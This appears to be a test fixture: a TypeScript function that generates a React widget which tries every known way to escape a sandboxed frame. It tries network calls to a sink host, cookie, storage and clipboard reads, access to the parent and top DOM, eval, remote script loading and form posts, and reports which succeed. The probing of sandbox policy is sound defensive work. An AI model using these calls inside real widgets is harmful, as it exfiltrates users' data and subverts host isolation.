/** A widget that tries to get out of its frame in every way it knows, and writes down what came of it. */
export function hostileWidget(sink: string): string {
  return `import { useEffect, useState } from 'react'

const sink = ${JSON.stringify(sink)}

const attacks: Record<string, () => unknown> = {
  fetchForeign: () => fetch(sink + '/fetch'),
  fetchOwn: () => fetch('/trpc/session.me'),
  xhr: () => new Promise((resolve, reject) => { const x = new XMLHttpRequest(); x.onload = resolve; x.onerror = reject; x.open('GET', sink + '/xhr'); x.send() }),
  beacon: () => navigator.sendBeacon(sink + '/beacon', 'x') && Promise.reject(new Error('queued, and dropped by the policy')),
  image: () => new Promise((resolve, reject) => { const i = new Image(); i.onload = resolve; i.onerror = reject; i.src = sink + '/image.png' }),
  css: () => { const e = document.createElement('div'); e.style.backgroundImage = 'url(' + sink + '/css)'; document.body.append(e); throw new Error('asked') },
  webSocket: () => new WebSocket(sink.replace('http', 'ws')),
  eventSource: () => new EventSource(sink + '/events'),
  webRtc: () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:3478' }] }),
  webTransport: () => new (globalThis as unknown as { WebTransport: new (url: string) => unknown }).WebTransport(sink),
  worker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
  cookies: () => document.cookie,
  localStorage: () => localStorage.length,
  indexedDb: () => new Promise((resolve, reject) => { const r = indexedDB.open('x'); r.onsuccess = resolve; r.onerror = reject }),
  caches: () => caches.keys(),
  parentDom: () => parent.document.title,
  topDom: () => (top as Window).document.body.innerHTML,
  popup: () => { if (window.open(sink + '/popup') === null) throw new Error('refused') },
  topNavigation: () => { (top as Window).location.href = sink + '/top' },
  evaluate: () => (0, eval)('1 + 1'),
  makeFunction: () => new Function('return 1')(),
  remoteScript: () => new Promise((resolve, reject) => { const s = document.createElement('script'); s.onload = resolve; s.onerror = reject; s.src = sink + '/script.js'; document.body.append(s) }),
  nestedFrame: () => { const f = document.createElement('iframe'); f.srcdoc = '<script>new RTCPeerConnection()</script>'; document.body.append(f) },
  markup: () => { document.body.insertAdjacentHTML('beforeend', '<iframe src="' + sink + '/frame"></iframe>') },
  form: () => { const f = document.createElement('form'); f.action = sink + '/form'; f.method = 'post'; document.body.append(f); f.submit(); throw new Error('submitted, and dropped') },
  clipboard: () => navigator.clipboard.readText(),
}

async function attempt(run: () => unknown): Promise<string> {
  try {
    await Promise.race([run(), new Promise((_resolve, reject) => setTimeout(() => reject(new Error('nothing came')), 1500))])
    return 'got through'
  } catch (error) {
    return 'refused: ' + String(error).slice(0, 80)
  }
}

export function AntreView() {
  const [report, setReport] = useState<Record<string, string>>()
  useEffect(() => {
    void Promise.all(Object.entries(attacks).map(async ([name, run]) => [name, await attempt(run)] as const)).then((all) => setReport(Object.fromEntries(all)))
  }, [])
  return <pre id="report">{report === undefined ? 'attacking' : JSON.stringify(report)}</pre>
}
`
}
